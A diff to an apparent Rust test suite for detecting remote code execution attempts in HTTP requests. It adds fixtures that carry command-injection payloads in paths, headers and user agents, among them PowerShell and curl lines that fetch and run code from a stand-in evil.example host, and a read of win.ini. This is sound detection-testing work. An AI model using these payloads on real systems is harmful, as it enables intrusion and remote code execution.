@@ -1053,8 +1053,12 @@ fn attacks_in_headers_and_path() -> Vec<(i64, Req)> {
     ]);
 
     // 30-rce
-    add(4230120, vec![Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"), seg("x|powershell -enc SQBFAFgA")]);
     add(4230140, vec![
+        Req::get("/files/x%20%26%20cmd%20/c%20whoami/view"),
+        seg("x|powershell -enc SQBFAFgA"),
+        hdr("X-Search-Filter", "x & whoami"),
+        ua("IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"),
+        hdr64("x| type c:\\windows\\win.ini"),
         hdr("X-Search-Filter", "127.0.0.1; cat /tmp/notes.txt"),
         ua("x && curl http://evil.example/s.sh | sh"),
         hdr64("$(curl http://evil.example/x)"),
